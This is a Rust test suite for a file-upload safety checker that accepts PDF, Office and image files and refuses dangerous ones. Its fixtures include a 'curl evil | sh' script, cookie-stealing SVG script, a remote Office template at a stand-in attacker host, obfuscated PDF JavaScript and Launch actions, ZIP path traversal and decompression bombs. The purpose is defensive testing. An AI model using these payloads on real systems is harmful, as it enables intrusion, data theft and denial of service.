//! `check`: accepted kinds and every refusal.

mod common;

use common::*;
use danchu_files::{check, limits, Danger, FileKind, PdfFeature, Refusal};

const MAX: usize = 20 * MB;

fn kind_of(bytes: &[u8], name: &str) -> FileKind {
    match check(bytes, name, MAX) {
        Ok(c) => c.kind,
        Err(r) => panic!("{name}: refused: {r:?} ({})", r.message().vi),
    }
}

fn refusal(bytes: &[u8], name: &str) -> Refusal {
    match check(bytes, name, MAX) {
        Ok(c) => panic!("{name}: accepted as {:?}", c.kind),
        Err(r) => r,
    }
}

fn danger(bytes: &[u8], name: &str) -> Danger {
    match refusal(bytes, name) {
        Refusal::Dangerous { reason } => reason,
        other => panic!("{name}: expected Dangerous, got {other:?}"),
    }
}

// --- accepted ----------------------------------------------------------------------------

#[test]
fn accepts_each_kind_by_content() {
    assert_eq!(kind_of(&fixture("chromium-vi.pdf"), "bien-ban.pdf"), FileKind::Pdf);
    assert_eq!(kind_of(&identity_h_pdf(), "a.pdf"), FileKind::Pdf);
    assert_eq!(kind_of(&winansi_pdf(), "a.PDF"), FileKind::Pdf);
    assert_eq!(kind_of(&vietnamese_docx(), "Biên bản.docx"), FileKind::Docx);
    assert_eq!(kind_of(&vietnamese_xlsx(), "thu-chi.xlsx"), FileKind::Xlsx);
    assert_eq!(kind_of(&fixture("flag.jpg"), "anh.jpeg"), FileKind::Jpeg);
    assert_eq!(kind_of(&fixture("flag.jpg"), "anh.JPG"), FileKind::Jpeg);
    assert_eq!(kind_of(&fixture("flag.png"), "anh.png"), FileKind::Png);
    assert_eq!(kind_of(&png_with_size(3, 2), "nho.png"), FileKind::Png);
}

#[test]
fn a_name_without_extension_is_fine_and_gets_the_true_one() {
    let c = check(&fixture("flag.png"), "ảnh chụp biên bản", MAX).unwrap();
    assert_eq!(c.kind, FileKind::Png);
    assert_eq!(c.safe_name, "ảnh chụp biên bản.png");
    let c = check(&vietnamese_docx(), "", MAX).unwrap();
    assert_eq!(c.safe_name, "tep-dinh-kem.docx");
}

#[test]
fn checked_carries_hash_size_and_safe_name() {
    let bytes = fixture("flag.png");
    let c = check(&bytes, "../../Ảnh\u{202E}gnp.exe/Cờ Tổ quốc.PNG", MAX).unwrap();
    assert_eq!(c.size, bytes.len());
    assert_eq!(c.sha256_hex.len(), 64);
    assert!(c.sha256_hex.chars().all(|ch| ch.is_ascii_hexdigit() && !ch.is_ascii_uppercase()));
    assert_eq!(c.safe_name, "Cờ Tổ quốc.png");
    // Known vector: SHA-256 of "abc" is not needed here; stability across calls is.
    assert_eq!(check(&bytes, "x.png", MAX).unwrap().sha256_hex, c.sha256_hex);
    // NFD names come back NFC.
    let c = check(&winansi_pdf(), "Thanh Ho\u{0061}\u{0301}.pdf", MAX).unwrap();
    assert_eq!(c.safe_name, "Thanh Hoá.pdf");
}

#[test]
fn sha256_is_the_real_one() {
    // A PNG is needed to pass the checks; compare with an independent computation.
    use sha2::{Digest, Sha256};
    let bytes = png_with_size(1, 1);
    let c = check(&bytes, "a.png", MAX).unwrap();
    assert_eq!(c.sha256_hex, hex::encode(Sha256::digest(&bytes)));
}

#[test]
fn file_kind_round_trips() {
    for k in FileKind::ALL {
        assert_eq!(FileKind::parse(k.as_str()), Some(k));
        assert_eq!(k.as_str().parse::<FileKind>(), Ok(k));
        assert!(k.accepts_extension(k.extension()));
        assert!(!k.mime().is_empty());
    }
    assert_eq!(FileKind::parse("JPG"), Some(FileKind::Jpeg));
    assert_eq!(FileKind::parse("doc"), None);
    assert!(FileKind::Png.is_image() && FileKind::Jpeg.is_image() && !FileKind::Pdf.is_image());
    assert_eq!(FileKind::Docx.mime(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
}

// --- size --------------------------------------------------------------------------------

#[test]
fn refuses_empty_and_oversized() {
    assert_eq!(refusal(b"", "a.pdf"), Refusal::Empty);
    let pdf = winansi_pdf();
    let r = check(&pdf, "a.pdf", pdf.len() - 1).unwrap_err();
    assert_eq!(r, Refusal::TooLarge { max_bytes: pdf.len() - 1 });
    assert!(check(&pdf, "a.pdf", pdf.len()).is_ok());
    assert_eq!(Refusal::TooLarge { max_bytes: 20 * MB }.message().vi, "Tệp lớn hơn 20 MB cho phép.");
}

// --- disguise ----------------------------------------------------------------------------

#[test]
fn refuses_disguised_files() {
    assert_eq!(refusal(&fixture("flag.png"), "bao-cao.pdf"), Refusal::Disguised { declared_ext: "pdf".into(), actual: FileKind::Png });
    assert_eq!(refusal(&fixture("flag.png"), "anh.jpg"), Refusal::Disguised { declared_ext: "jpg".into(), actual: FileKind::Png });
    assert_eq!(refusal(&vietnamese_docx(), "so-lieu.xlsx"), Refusal::Disguised { declared_ext: "xlsx".into(), actual: FileKind::Docx });
    // Double extension: the last one counts.
    assert_eq!(refusal(&winansi_pdf(), "report.pdf.exe"), Refusal::Disguised { declared_ext: "exe".into(), actual: FileKind::Pdf });
    let m = refusal(&fixture("chromium-vi.pdf"), "bien-ban.png").message();
    assert!(m.vi.starts_with("Tệp có đuôi .png nhưng nội dung không phải ảnh PNG mà là PDF."), "{}", m.vi);
}

// --- programs, scripts, markup -----------------------------------------------------------

#[test]
fn refuses_programs_whatever_their_name() {
    let mut exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xFF\xFF".to_vec();
    exe.extend_from_slice(&[0; 64]);
    exe.extend_from_slice(b"This program cannot be run in DOS mode.");
    assert_eq!(danger(&exe, "bao-cao.pdf"), Danger::Executable);
    assert_eq!(danger(&exe, "report.pdf.exe"), Danger::Executable);
    assert_eq!(danger(b"\x7FELF\x02\x01\x01\x00rest", "anh.png"), Danger::Executable);
    assert_eq!(danger(b"\xCF\xFA\xED\xFE\x07\x00\x00\x01", "a.docx"), Danger::Executable);
    assert_eq!(danger(b"#!/bin/bash\ncurl evil | sh\n", "a.pdf"), Danger::Script);
}

#[test]
fn refuses_html_and_svg_even_named_png() {
    assert_eq!(danger(b"<!DOCTYPE html><html><body><script>alert(1)</script>", "anh.png"), Danger::Markup);
    assert_eq!(danger(b"\xEF\xBB\xBF<html><body>x</body></html>", "trang.pdf"), Danger::Markup);
    let svg = br#"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>"#;
    assert_eq!(danger(svg, "logo.png"), Danger::Markup);
    assert_eq!(danger(br#"<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>"#, "logo.svg"), Danger::Markup);
}

#[test]
fn refuses_legacy_office_and_asks_for_docx() {
    let mut ole = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
    ole.extend_from_slice(&[0; 504]);
    assert_eq!(danger(&ole, "bien-ban.doc"), Danger::LegacyOffice);
    assert_eq!(danger(&ole, "so-lieu.xls"), Danger::LegacyOffice);
    let m = Refusal::Dangerous { reason: Danger::LegacyOffice }.message();
    assert!(m.vi.contains("DOCX") && m.vi.contains("XLSX") && m.vi.contains("PDF"));
}

#[test]
fn unknown_types() {
    assert_eq!(refusal(b"GIF89a\x01\x00\x01\x00", "a.gif"), Refusal::UnknownType);
    assert_eq!(refusal("Chỉ là văn bản thuần.".as_bytes(), "a.txt"), Refusal::UnknownType);
    // A ZIP that is not an Office package.
    assert_eq!(refusal(&zip_of(&[("a.txt", b"hello")]), "a.zip"), Refusal::UnknownType);
    assert_eq!(refusal(&zip_of(&[("a.txt", b"hello")]), "a.docx"), Refusal::UnknownType);
    // OpenDocument is not accepted either.
    assert_eq!(
        refusal(&zip_of(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<x/>")]), "a.odt"),
        Refusal::UnknownType
    );
}

// --- Office packages ---------------------------------------------------------------------

#[test]
fn refuses_macros() {
    let with_vba = docx_with(&para("x"), &[("word/vbaProject.bin", b"\xD0\xCF\x11\xE0 fake vba")]);
    assert_eq!(danger(&with_vba, "bien-ban.docm"), Danger::Macro);
    assert_eq!(danger(&with_vba, "bien-ban.docx"), Danger::Macro);
    // Macro-enabled content type without the binary.
    let ct = DOCX_CONTENT_TYPES.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    );
    let doc = document_xml(&para("x"));
    let macro_ct = zip_of(&[("[Content_Types].xml", ct.as_bytes()), ("word/document.xml", doc.as_bytes())]);
    assert_eq!(danger(&macro_ct, "a.docx"), Danger::Macro);
    // The extension alone is enough.
    assert_eq!(danger(&vietnamese_docx(), "a.docm"), Danger::Macro);
    assert_eq!(danger(&vietnamese_xlsx(), "a.xlsm"), Danger::Macro);
}

#[test]
fn refuses_activex_remote_templates_and_embedded_programs() {
    let activex = docx_with(&para("x"), &[("word/activeX/activeX1.xml", b"<ax/>")]);
    assert_eq!(danger(&activex, "a.docx"), Danger::ActiveContent);
    let rels = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
    let remote = docx_with(&para("x"), &[("word/_rels/settings.xml.rels", rels.as_bytes())]);
    assert_eq!(danger(&remote, "a.docx"), Danger::ActiveContent);
    // An ordinary external hyperlink is fine.
    let link = rels.replace("attachedTemplate", "hyperlink");
    assert!(check(&docx_with(&para("x"), &[("word/_rels/document.xml.rels", link.as_bytes())]), "a.docx", MAX).is_ok());
    let exe = docx_with(&para("x"), &[("word/embeddings/setup.exe", b"MZ\x90\x00")]);
    assert_eq!(danger(&exe, "a.docx"), Danger::Executable);
    let hidden = docx_with(&para("x"), &[("word/media/image1.png", b"MZ\x90\x00 disguised program")]);
    assert_eq!(danger(&hidden, "a.docx"), Danger::Executable);
}

#[test]
fn refuses_zip_path_traversal() {
    let base = docx_with(&para("x"), &[("zz/evil.txt", b"pwned")]);
    let traversal = patch(&base, b"zz/evil.txt", b"../evil.txt");
    assert_eq!(danger(&traversal, "a.docx"), Danger::ZipPath);
    let absolute = patch(&base, b"zz/evil.txt", b"/zzevil.txt");
    assert_eq!(danger(&absolute, "a.docx"), Danger::ZipPath);
    let windows = patch(&base, b"zz/evil.txt", b"..\\evil.txt");
    assert_eq!(danger(&windows, "a.docx"), Danger::ZipPath);
}

#[test]
fn refuses_zip_bombs() {
    // 12 MiB of zeros deflate to a few KiB: far over 100:1.
    let zeros = vec![0u8; 12 * MB];
    let bomb = docx_with(&para("x"), &[("word/media/zeros.bin", &zeros)]);
    assert!(bomb.len() < 100 * 1024);
    assert_eq!(danger(&bomb, "a.docx"), Danger::ZipBomb);
    assert_eq!(danger(&bomb, "a.xlsx"), Danger::ZipBomb);
    // Too many entries.
    let names: Vec<String> = (0..=limits::ZIP_MAX_ENTRIES).map(|i| format!("word/x/{i}.xml")).collect();
    let ct = DOCX_CONTENT_TYPES.as_bytes();
    let doc = document_xml("");
    let mut entries: Vec<(&str, &[u8])> = vec![("[Content_Types].xml", ct), ("word/document.xml", doc.as_bytes())];
    entries.extend(names.iter().map(|n| (n.as_str(), b"" as &[u8])));
    assert_eq!(danger(&zip_of(&entries), "a.docx"), Danger::ZipBomb);
}

#[test]
fn a_well_compressed_small_document_is_not_a_bomb() {
    // 2 MiB of very regular XML compresses far better than 100:1, but is under the floor.
    let body = para("Dân chủ ").repeat(40_000);
    let docx = docx_with(&body, &[]);
    assert!((docx.len() as u64) * limits::ZIP_MAX_RATIO < body.len() as u64, "test needs a high ratio");
    assert_eq!(kind_of(&docx, "a.docx"), FileKind::Docx);
}

#[test]
fn truncated_office_files_are_malformed() {
    let docx = vietnamese_docx();
    assert_eq!(refusal(&docx[..docx.len() / 2], "a.docx"), Refusal::Malformed { kind: FileKind::Docx });
    let xlsx = vietnamese_xlsx();
    assert_eq!(refusal(&xlsx[..xlsx.len() - 30], "a.xlsx"), Refusal::Malformed { kind: FileKind::Xlsx });
    // Corrupt compressed data (CRC or inflate error) is caught by unpacking every entry.
    let mut corrupt = vietnamese_docx();
    let at = find(&corrupt, b"word/document.xml").unwrap() + 40;
    for b in &mut corrupt[at..at + 30] {
        *b ^= 0x5A;
    }
    assert_eq!(refusal(&corrupt, "a.docx"), Refusal::Malformed { kind: FileKind::Docx });
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

// --- PDF ---------------------------------------------------------------------------------

#[test]
fn refuses_pdf_javascript_launch_embedded_files_and_rich_media() {
    let js = one_page_pdf(b"BT ET", "", "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", &[]);
    assert_eq!(danger(&js, "a.pdf"), Danger::Pdf(PdfFeature::JavaScript));
    // Hex-escaped names are decoded.
    let obfuscated = one_page_pdf(b"BT ET", "", "/OpenAction << /S /J#61vaScr#69pt /J#53 (x) >>", &[]);
    assert_eq!(danger(&obfuscated, "a.pdf"), Danger::Pdf(PdfFeature::JavaScript));
    let launch = one_page_pdf(b"BT ET", "", "/OpenAction << /S /Launch /F (cmd.exe) >>", &[]);
    assert_eq!(danger(&launch, "a.pdf"), Danger::Pdf(PdfFeature::Launch));
    let embedded = one_page_pdf(
        b"BT ET",
        "",
        "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
        &[b"<< /Type /Filespec /F (a.exe) >>".to_vec()],
    );
    assert_eq!(danger(&embedded, "a.pdf"), Danger::Pdf(PdfFeature::EmbeddedFile));
    let rich = one_page_pdf(b"BT ET", "", "", &[b"<< /Type /Annot /Subtype /RichMedia >>".to_vec()]);
    assert_eq!(danger(&rich, "a.pdf"), Danger::Pdf(PdfFeature::RichMedia));
    // The word in text or a string is not a feature.
    let harmless = one_page_pdf(
        b"BT /F1 12 Tf 72 700 Td (/JavaScript and /Launch are words) Tj ET",
        "/F1 5 0 R",
        "/Info (about /JS)",
        &[b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_vec()],
    );
    assert_eq!(kind_of(&harmless, "a.pdf"), FileKind::Pdf);
}

#[test]
fn finds_javascript_inside_compressed_object_streams() {
    // Object 5 lives in a compressed object stream (as PDF 1.5 writers do); the raw bytes
    // never show "/JavaScript".
    let inner = b"<< /S /JavaScript /JS (app.launchURL\\(\"http://evil\"\\)) >>";
    let header = b"5 0 ";
    let mut plain = header.to_vec();
    plain.extend_from_slice(inner);
    let objstm = stream_obj(&format!("/Type /ObjStm /N 1 /First {} /Filter /FlateDecode", header.len()), &zlib(&plain));
    let pdf = one_page_pdf(b"BT ET", "", "/OpenAction 5 0 R", &[objstm]);
    assert!(find(&pdf, b"JavaScript").is_none());
    assert_eq!(danger(&pdf, "a.pdf"), Danger::Pdf(PdfFeature::JavaScript));
}

#[test]
fn refuses_object_stream_bombs() {
    let zeros = vec![b' '; 40 * MB];
    let objstm = stream_obj("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", &zlib(&zeros));
    let pdf = one_page_pdf(b"BT ET", "", "", &[objstm]);
    assert!(pdf.len() < MB);
    assert_eq!(danger(&pdf, "a.pdf"), Danger::ZipBomb);
}

#[test]
fn refuses_encrypted_pdfs() {
    let enc = b"<< /Filter /Standard /V 1 /R 2 /O <00112233445566778899AABBCCDDEEFF00112233445566778899AABBCCDDEEFF> /U <00112233445566778899AABBCCDDEEFF00112233445566778899AABBCCDDEEFF> /P -44 >>".to_vec();
    let mut objects = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>".to_vec(),
    ];
    objects.push(enc);
    let pdf = pdf_of(&objects, "/Encrypt 4 0 R /ID [<00112233445566778899AABBCCDDEEFF> <00112233445566778899AABBCCDDEEFF>]");
    assert_eq!(danger(&pdf, "a.pdf"), Danger::Encrypted);
    let m = Refusal::Dangerous { reason: Danger::Encrypted }.message();
    assert!(m.vi.contains("mật khẩu"));
}

#[test]
fn truncated_or_broken_pdfs_are_malformed() {
    let real = fixture("chromium-vi.pdf");
    assert_eq!(refusal(&real[..real.len() - 2000], "a.pdf"), Refusal::Malformed { kind: FileKind::Pdf });
    assert_eq!(refusal(&real[..real.len() / 2], "a.pdf"), Refusal::Malformed { kind: FileKind::Pdf });
    assert_eq!(refusal(b"%PDF-1.4\n%%EOF\n", "a.pdf"), Refusal::Malformed { kind: FileKind::Pdf });
}

// --- images ------------------------------------------------------------------------------

#[test]
fn broken_images_are_malformed() {
    let png = fixture("flag.png");
    assert_eq!(refusal(&png[..png.len() - 12], "a.png"), Refusal::Malformed { kind: FileKind::Png });
    assert_eq!(refusal(&png[..40], "a.png"), Refusal::Malformed { kind: FileKind::Png });
    let mut bad_crc = png.clone();
    bad_crc[29] ^= 1; // last byte of the IHDR CRC
    assert_eq!(refusal(&bad_crc, "a.png"), Refusal::Malformed { kind: FileKind::Png });
    let mut bad_ihdr = png_with_size(4, 4);
    bad_ihdr[24] = 3; // bit depth 3 does not exist (the CRC no longer matches either)
    assert_eq!(refusal(&bad_ihdr, "a.png"), Refusal::Malformed { kind: FileKind::Png });
    assert_eq!(refusal(&png_with_size(0, 4), "a.png"), Refusal::Malformed { kind: FileKind::Png });

    let jpg = fixture("flag.jpg");
    assert_eq!(refusal(&jpg[..jpg.len() - 2], "a.jpg"), Refusal::Malformed { kind: FileKind::Jpeg });
    assert_eq!(refusal(&jpg[..jpg.len() / 2], "a.jpg"), Refusal::Malformed { kind: FileKind::Jpeg });
    assert_eq!(refusal(b"\xFF\xD8\xFF\xD9", "a.jpg"), Refusal::Malformed { kind: FileKind::Jpeg });
    // Bytes after the end marker (camera trailers) are allowed.
    let mut trailer = jpg.clone();
    trailer.extend_from_slice(b"SEFT trailer data");
    assert_eq!(kind_of(&trailer, "a.jpg"), FileKind::Jpeg);
}

#[test]
fn refuses_pixel_bombs() {
    assert_eq!(danger(&png_with_size(100_000, 100_000), "a.png"), Danger::ImageTooLarge);
}

#[test]
fn every_refusal_has_both_languages() {
    let all = [
        Refusal::Empty,
        Refusal::TooLarge { max_bytes: 5 * MB },
        Refusal::UnknownType,
        Refusal::Disguised { declared_ext: "pdf".into(), actual: FileKind::Xlsx },
        Refusal::Malformed { kind: FileKind::Jpeg },
        Refusal::Dangerous { reason: Danger::ZipBomb },
        Refusal::Dangerous { reason: Danger::Pdf(PdfFeature::EmbeddedFile) },
    ];
    for r in all {
        let m = r.message();
        assert!(!m.vi.is_empty() && !m.en.is_empty() && m.vi != m.en, "{r:?}");
        assert_eq!(r.to_string(), m.en);
        assert!(!r.code().is_empty());
    }
}
